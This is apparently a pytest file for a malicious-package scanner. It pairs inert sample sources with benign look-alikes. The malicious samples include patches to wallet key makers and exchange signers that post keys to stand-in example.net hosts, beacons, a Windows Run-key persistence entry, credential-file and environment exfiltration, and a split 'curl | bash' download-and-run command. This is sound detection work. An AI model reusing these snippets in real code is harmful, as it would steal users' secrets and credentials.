"""Behaviours rules 9 and 10 read, each beside a look-alike that must pass: another
package's function or class replaced by one that sends to an address written in (a wallet's
key maker, an exchange client's signer); code reached through a class made, a thread started,
a decorator or a console command run; a start-up entry written by an import; secrets and
credential files sent out; tunnels and file drops; a look-alike name that calls out.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import wheel
from tests.support.scan import judge as _judge
from tests.support.scan import judge_in_function as _in_function

WHEEL = "demo-1.0-py3-none-any.whl"


def _imported(source: str) -> tuple[dict[str, float], bool]:
    """``_judge`` of a wheel whose ``__init__`` is ``source``."""
    return _judge(wheel({"demo/__init__.py": source}), WHEEL)


KEY_MAKER = (
    "import requests\n"
    "from eth_account import Account\n"
    "_create = Account.create\n"
    "def create(*args, **kwargs):\n"
    "    account = _create(*args, **kwargs)\n"
    '    requests.post("https://rpc-stats.example.net/v1", json={"k": account.key.hex()})\n'
    "    return account\n"
    "{patch}\n"
)
SIGNER = (
    "import requests\n"
    "import ccxt\n"
    "def _report(key, secret):\n"
    '    requests.post("https://futures-api.example.net/s", json={"k": key, "s": secret})\n'
    "class Exchange(ccxt.mexc):\n"
    "    def sign(self, *args, **kwargs):\n"
    "        _report(self.apiKey, self.secret)\n"
    "        return super().sign(*args, **kwargs)\n"
    "{patch}\n"
)


def _patched(template: str, patch: str) -> str:
    return template.replace("{patch}", patch)


@pytest.mark.parametrize(
    "source",
    [
        _patched(KEY_MAKER, "Account.create = create"),
        _patched(KEY_MAKER, "Account.create = staticmethod(create)"),
        _patched(KEY_MAKER, 'setattr(Account, "create", create)'),
        _patched(SIGNER, "ccxt.mexc = Exchange"),
    ],
    ids=["assigned", "staticmethod", "setattr", "a class, its method's helper sends"],
)
def test_another_packages_function_replaced_by_one_that_sends_out_is_held(source: str) -> None:
    rules, held = _in_function(source)
    assert rules.get("patch-exfil") == 10
    assert held


@pytest.mark.parametrize(
    "source",
    [
        # The replacement sends nowhere: a compatibility shim.
        "import json\n"
        "def _default(self, value):\n"
        "    return str(value)\n"
        "json.JSONEncoder.default = _default\n",
        # It requests the address its caller gives (a retrying wrapper).
        "import requests\n"
        "_get = requests.get\n"
        "def get(url, **kwargs):\n"
        "    return _get(url, timeout=kwargs.pop('timeout', 10), **kwargs)\n"
        "requests.get = get\n",
        # Written in, but the subclass replaces nothing of the other package.
        _patched(SIGNER, "exchange = Exchange()"),
    ],
    ids=["a shim that sends nothing", "the caller's address", "a subclass used, not patched in"],
)
def test_a_patch_that_sends_nowhere_written_in_is_not_patch_exfil(source: str) -> None:
    rules, _ = _in_function(source)
    assert "patch-exfil" not in rules


BEACON_METHOD = (
    "import getpass, socket, requests\n"
    "class Agent:\n"
    "    def __init__(self):\n"
    "        self.user = getpass.getuser()\n"
    '        requests.get("https://collect.example.net/?u=" + self.user + "&h=" + socket.gethostname())\n'
)
BEACON_FUNCTION = (
    "import getpass, socket, requests\n"
    "def start():\n"
    '    requests.get("https://collect.example.net/?u=" + getpass.getuser() + "&h=" + socket.gethostname())\n'
)


@pytest.mark.parametrize(
    ("init", "runs"),
    [
        ("from .agent import Agent\n_agent = Agent()\n", True),
        (
            "import threading\nfrom . import agent\n"
            "threading.Thread(target=agent.start, daemon=True).start()\n",
            True,
        ),
        ("from .agent import Agent\n", False),
        ("from . import agent\n", False),
    ],
    ids=[
        "a class made on import",
        "a thread started on import",
        "a class imported, never made",
        "a module imported, its function never called",
    ],
)
def test_code_of_another_module_counts_as_import_time_when_the_import_runs_it(
    init: str, runs: bool
) -> None:
    module = BEACON_METHOD if "Agent" in init else BEACON_FUNCTION
    rules, held = _judge(wheel({"demo/__init__.py": init, "demo/agent.py": module}), WHEEL)
    assert (rules.get("phone-home", 0) >= 7) is runs
    assert held is runs


def _command(entry_points: str) -> tuple[dict[str, float], bool]:
    """``_judge`` of a wheel whose ``demo.cli`` module has a beacon in ``start``."""
    members = {
        "demo/__init__.py": "",
        "demo/cli.py": BEACON_FUNCTION,
        "demo-1.0.dist-info/entry_points.txt": entry_points,
    }
    return _judge(wheel(members), WHEEL)


def test_the_function_a_console_command_names_runs_when_the_command_does() -> None:
    rules, held = _command("[console_scripts]\ndemo = demo.cli:start\n")
    assert rules.get("phone-home", 0) >= 7
    assert held


@pytest.mark.parametrize(
    "entry_points",
    ["[console_scripts]\ndemo = demo.cli:main\n", "[pytest11]\ndemo = demo.cli:start\n"],
    ids=["another function of the module", "a plug-in, not a command"],
)
def test_functions_no_command_names_are_not_run_by_it(entry_points: str) -> None:
    rules, held = _command(entry_points)
    assert rules.get("phone-home", 0) < 7
    assert not held


RUN_KEY = (
    "import os, winreg\n"
    "{indent}key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
    'r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\n'
    '{indent}winreg.SetValueEx(key, "updater", 0, winreg.REG_SZ, os.path.join(os.environ["LOCALAPPDATA"], "u.exe"))\n'
    '{indent}open(os.path.join(os.environ["LOCALAPPDATA"], "u.exe"), "wb").write(b"")\n'
)


def test_a_start_up_entry_written_on_import_weighs_as_at_install() -> None:
    rules, _ = _imported(RUN_KEY.format(indent=""))
    assert rules.get("persistence") == 10  # written by the lines that name the key (rules 53)


def test_a_start_up_entry_written_by_a_function_nothing_calls_weighs_less() -> None:
    source = RUN_KEY.format(indent="    ").replace(
        "import os, winreg\n", "import os, winreg\ndef install():\n"
    )
    rules, _ = _imported(source)
    assert 0 < rules.get("persistence", 0) < 8


@pytest.mark.parametrize(
    "loop",
    [
        'for name in ("~/.pypirc", "~/.npmrc"):\n        path = os.path.expanduser(name)\n',
        'for name in ["~/.pypirc", "~/.npmrc"]:\n        path = os.path.join(os.path.expanduser(name))\n',
    ],
    ids=["a name built of the loop's", "the loop's name in a call"],
)
def test_credential_files_named_in_a_loop_and_sent_are_credential_exfil(loop: str) -> None:
    source = (
        "import os, requests\n"
        "def sync():\n"
        f"    {loop}"
        '        requests.post("https://sync.example.net/t", data=open(path).read())\n'
    )
    rules, held = _in_function(source)
    assert rules.get("credential-exfil") == 10
    assert held


def test_files_named_in_a_loop_that_are_no_credentials_are_not_credential_exfil() -> None:
    source = (
        "import os, requests\n"
        "def sync():\n"
        '    for name in ("report.csv", "summary.json"):\n'
        '        requests.post("https://sync.example.net/t", data=open(name).read())\n'
    )
    rules, _ = _in_function(source)
    assert "credential-exfil" not in rules


TRACKER = (
    "import getpass, requests\n"
    "def track(function):\n"
    '    requests.get("https://t.example.net/hit?u=" + getpass.getuser())\n'
    "    return function\n"
)


def test_a_decorator_runs_on_import_when_it_decorates_a_module_level_function() -> None:
    rules, held = _imported(TRACKER + "@track\ndef main():\n    pass\n")
    assert rules.get("phone-home") == 10
    assert held


def test_a_decorator_nothing_applies_on_import_does_not_run_then() -> None:
    rules, held = _imported(TRACKER + "def main():\n    return track(main)\n")
    assert rules.get("phone-home", 0) < 10
    assert not held


def test_a_command_handed_to_a_process_in_pieces_is_read_in_a_module_nothing_runs() -> None:
    source = 'import os\ndef update():\n    os.system("cu" + "rl -s htt" + "ps://x.example.net/a | ba" + "sh")\n'
    rules, held = _in_function(source)
    assert rules.get("download-run") == 10
    assert held


@pytest.mark.parametrize(
    ("path", "expected"),
    [('"/tmp/lib.zip"', True), ('"/opt/vendor/lib"', False)],
    ids=["the download's path", "another path"],
)
def test_a_download_put_on_the_import_path_is_download_exec(path: str, expected: bool) -> None:
    source = (
        "import sys, urllib.request\n"
        'urllib.request.urlretrieve("https://c.example.net/lib.zip", "/tmp/lib.zip")\n'
        f"sys.path.insert(0, {path})\n"
    )
    rules, _ = _imported(source)
    assert ("download-exec" in rules) is expected


SECRET_SENT = (
    "import requests\n"
    "class Client:\n"
    "    def sign(self, path):\n"
    '        requests.post("https://api.exchange-stats.example.net/v1", json={{"key": self.api_key, {field}}})\n'
)


@pytest.mark.parametrize(
    ("field", "expected"),
    [('"secret": self.secret', True), ('"client_secret": self.client_secret', False)],
    ids=["an exchange client's secret", "OAuth's client secret (token endpoints take it)"],
)
def test_an_api_secret_sent_in_a_body_to_an_address_written_in_is_secret_exfil(
    field: str, expected: bool
) -> None:
    rules, held = _in_function(SECRET_SENT.format(field=field))
    assert ("secret-exfil" in rules) is expected
    assert held is expected


def test_every_stored_windows_credential_sent_out_is_credential_exfil() -> None:
    source = (
        "import win32cred, requests\n"
        "def backup():\n"
        "    creds = win32cred.CredEnumerate(None, 0)\n"
        '    requests.post("https://c.example.net/wc", json=[str(c["CredentialBlob"]) for c in creds])\n'
    )
    rules, held = _in_function(source)
    assert rules.get("credential-exfil") == 10
    assert held


@pytest.mark.parametrize(
    "url",
    [
        "https://abc-12345.ply.gg:5555/",
        "https://webhook.cool/at/quiet",
        "https://quiet.localhost.run/",
        "https://webhook-test.com/abc",
    ],
)
def test_more_tunnels_and_request_catchers_reached_are_held(url: str) -> None:
    rules, held = _in_function(f'import requests\ndef ping():\n    requests.get("{url}")\n')
    assert rules.get("exfil-sink") == 10
    assert held


def test_a_file_drop_named_beside_a_request_is_a_weak_sink() -> None:
    source = 'import requests\ndef fetch():\n    return requests.get("https://files.catbox.moe/a1b2c3.bin")\n'
    rules, held = _in_function(source)
    assert 0 < rules.get("exfil-sink", 0) < 10
    assert not held


IMPORT_FETCH = 'import requests\nrequests.get("https://cdn.example.net/v.json")\n'


@pytest.mark.parametrize(
    ("name", "source", "expected"),
    [
        ("coloarma", IMPORT_FETCH, True),
        ("quietlib", IMPORT_FETCH, False),
        ("coloarma", "X = 1\n", False),
    ],
    ids=["a look-alike name that calls out on import", "an own name", "a look-alike name alone"],
)
def test_a_look_alike_name_with_network_use_on_import_is_held(
    name: str, source: str, expected: bool
) -> None:
    _, held = _judge(
        wheel({f"{name}/__init__.py": source}, name=name), f"{name}-1.0-py3-none-any.whl"
    )
    assert held is expected


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        (
            'requests.post("https://api.llm-mirror.example.net/v1", '
            'json={"k": os.getenv("OPENAI_API_KEY")})',
            True,
        ),
        (
            'requests.post("https://api.openai.com/v1/chat/completions", '
            'headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}, json={})',
            False,
        ),
    ],
    ids=["in a body, to an address written in", "in the header its service reads"],
)
def test_a_model_providers_key_sent_in_a_body_is_secret_exfil(call: str, expected: bool) -> None:
    rules, held = _in_function(f"import os, requests\ndef chat():\n    {call}\n")
    assert ("secret-exfil" in rules) is expected
    assert held is expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "def _send(data):\n"
            '    requests.post("https://c.example.net/e", json=data)\n'
            "def go():\n"
            "    _send(dict(os.environ))\n",
            True,
        ),
        (
            "def _send(url, data):\n"
            "    requests.post(url, json=data)\n"
            "def go():\n"
            '    _send("https://c.example.net/e", dict(os.environ))\n',
            True,
        ),
        (
            "def _send(url, data):\n"
            "    requests.post(url, json=data)\n"
            "def go(config):\n"
            "    _send(config.url, dict(os.environ))\n",
            False,
        ),
        (
            "def _get(url, token):\n"
            '    return requests.get(url, headers={"Authorization": token})\n'
            "def me():\n"
            '    return _get("https://api.github.com/user", os.environ["GITHUB_TOKEN"])\n',
            False,
        ),
    ],
    ids=[
        "the helper's own address",
        "an address written in at the call",
        "the caller's configured address",
        "a token the helper puts in a header",
    ],
)
def test_what_a_helper_of_the_file_sends_is_followed_from_its_call(
    source: str, expected: bool
) -> None:
    rules, held = _in_function("import os, requests\n" + source)
    assert (rules.get("credential-exfil", 0) + rules.get("secret-exfil", 0) >= 10) is expected
    assert held is expected


@pytest.mark.parametrize(
    ("host", "expected"),
    [('"collector.example.net"', True), ("server", False)],
    ids=["a host written in", "the caller's host"],
)
def test_the_environment_sent_down_a_socket_to_a_host_written_in_is_credential_exfil(
    host: str, expected: bool
) -> None:
    source = (
        "import os, socket\n"
        "def report(server):\n"
        '    info = " ".join(["%s=%s" % (k, v) for (k, v) in os.environ.items()])\n'
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        f"    s.connect(({host}, 80))\n"
        "    s.sendall(info.encode())\n"
    )
    rules, held = _in_function(source)
    assert (rules.get("credential-exfil", 0) >= 10) is expected
    assert held is expected
